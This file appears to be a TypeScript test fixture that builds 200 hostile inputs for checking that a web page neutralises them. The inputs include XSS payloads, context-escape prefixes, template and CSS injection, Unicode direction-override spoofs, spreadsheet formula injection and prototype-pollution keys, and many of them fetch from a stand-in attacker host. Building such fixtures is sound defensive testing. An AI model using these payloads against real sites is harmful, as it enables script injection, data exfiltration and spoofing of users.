/** Any request here means that a payload came alive. */
export const thief = 'thief.ferrow.example';

const act = 'window.pwned=1;alert(1)';
const away = `https://${thief}`;

/** Elements that would run or fetch something by themselves. Each carries a class, by which it would be found. */
const elements = [
  `<script>${act}</script>`,
  `<script src="${away}/a.js"></script>`,
  `<img class=pwned src=x onerror="${act}">`,
  `<img class=pwned src="${away}/b.png">`,
  `<svg class=pwned onload="${act}"></svg>`,
  `<svg class=pwned><script>${act}</script></svg>`,
  `<svg class=pwned><image href="${away}/c.svg" /></svg>`,
  `<svg class=pwned><animate onbegin="${act}" attributeName=x dur=1s></svg>`,
  `<svg class=pwned><use href="${away}/d.svg#a" /></svg>`,
  `<svg class=pwned><foreignObject><iframe src="${away}/e"></iframe></foreignObject></svg>`,
  `<iframe class=pwned src="javascript:${act}"></iframe>`,
  `<iframe class=pwned srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<object class=pwned data="${away}/f"></object>`,
  `<embed class=pwned src="${away}/g">`,
  `<video class=pwned src=x onerror="${act}"></video>`,
  `<audio class=pwned src="${away}/h.mp3" autoplay></audio>`,
  `<details class=pwned open ontoggle="${act}">x</details>`,
  `<input class=pwned autofocus onfocus="${act}">`,
  `<body class=pwned onload="${act}">`,
  `<marquee class=pwned onstart="${act}">x</marquee>`,
  `<math class=pwned><mtext><style><img src=x onerror="${act}"></style></mtext></math>`,
  `<base class=pwned href="${away}/">`,
  `<meta class=pwned http-equiv="refresh" content="0;url=${away}/i">`,
  `<link class=pwned rel=stylesheet href="${away}/j.css">`,
  `<style class=pwned>*{background:url(${away}/k)}</style>`,
  `<form class=pwned action="${away}/l"><button>go</button></form>`,
  `<a class=pwned href="javascript:${act}">go</a>`,
  `<a class=pwned href="${away}/m" ping="${away}/n">go</a>`,
  `<template class=pwned><img src=x onerror="${act}"></template>`,
  `<x-pwned class=pwned style="background:url(${away}/o)">x</x-pwned>`,
];

/** What is put before an element to get out of where it may have been written. */
const escapes = ['', '"><', `'/>`, '</textarea>', '</title></style></script>', '--><!-- -->', ']]>'];

const addresses = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  ` javascript:${act}`,
  `java\tscript:${act}`,
  `\u0001javascript:${act}`,
  `javascript://github.com/%0a${act}`,
  `data:text/html,<script>${act}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="${act}">`,
  `vbscript:msgbox(1)`,
  `blob:https://github.com/1`,
  `filesystem:https://github.com/1`,
  'file:///etc/passwd',
  `http://${thief}/plain`,
  `//${thief}/no-scheme`,
  `https://github.com@${thief}/user`,
  'chrome-extension://x/workspace.html',
  'about:blank',
];

const marked = [
  ...['!', ''].flatMap((bang) => [`${bang}[x](javascript:${act})`, `${bang}[x](${away}/p)`, `${bang}[x]: ${away}/q`]),
  `<javascript:${act}>`,
  `# heading <img class=pwned src=x onerror="${act}">`,
  '```html\n<script>alert(1)</script>\n```',
  `[x](data:text/html,<script>${act}</script>)`,
  `{color:red}*x*{color}!${away}/r.png!`,
  `||a|| <b class=pwned>b</b>`,
];

const templates = ['{{', '${', '<%=', '#{', '[[', '{%', '$(', '`'].flatMap((open) => [
  `${open}constructor.constructor("${act}")()}}`,
  `${open}7*7}}%>]]`,
]);

const sheets = [
  `}*{background:url(${away}/s)}`,
  `x;background:url(${away}/t)`,
  `@import url(${away}/u);`,
  `expression(${act})`,
  `url("javascript:${act}")`,
  `</style><style>*{display:none}`,
  '--x:;}body{visibility:hidden}',
  `\\75rl(${away}/v)`,
];

const directions = ['\u202e', '\u202d', '\u202a', '\u202b', '\u2066', '\u2067', '\u2068', '\u200e', '\u200f', '\u061c'];
const turned = [
  ...directions.map((control) => `paid${control}gnp.exe invoice`),
  `\u202Eelbaliava ton\u202C and \u2067x\u2069`,
  `moc.live\u202e@support`,
];

const hidden = ['\u200b', '\u200c', '\u200d', '\ufeff', '\u00ad', '\u2060', '\u0000', '\u0007', '\u001b[31m', '\ud800'].map(
  (sign) => `re${sign}fund`,
);

const formulas = ['=', '+', '-', '@', '\t=', '\r=', '\n='].map((start) => `${start}HYPERLINK("${away}/w","x")`);

const odd = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '__proto__',
  'constructor',
  'toString',
  `');${act};//`,
  `";${act};//`,
  `</script><script>${act}</script>`,
  '$1$2$&',
  'T-K7QF2M D-00000000',
  'NaN',
  'null',
  'Z\u0351\u036b\u0343\u036a\u0302a\u0301\u035c\u0327l\u0300\u0311g\u0308\u0352o'.repeat(6),
  'x'.repeat(2_000),
  '<'.repeat(600),
  '🏳️‍🌈'.repeat(40),
];

const others = [...addresses, ...marked, ...templates, ...sheets, ...turned, ...hidden, ...formulas, ...odd];
const escaped = escapes.flatMap((escape) => elements.map((element) => escape + element));

/** 200 things that nobody should be able to say to a page, mixed so that any run of them has some of every kind. */
export const payloads: readonly string[] = spread([...others, ...escaped.slice(0, 200 - others.length)]);

/** Addresses among them, for fields that hold one. */
export const hostileAddresses: readonly string[] = addresses;

function spread(all: readonly string[]): readonly string[] {
  // 200 and 77 have no common divisor.
  return all.map((_one, index) => all[(index * 77) % all.length] ?? '');
}
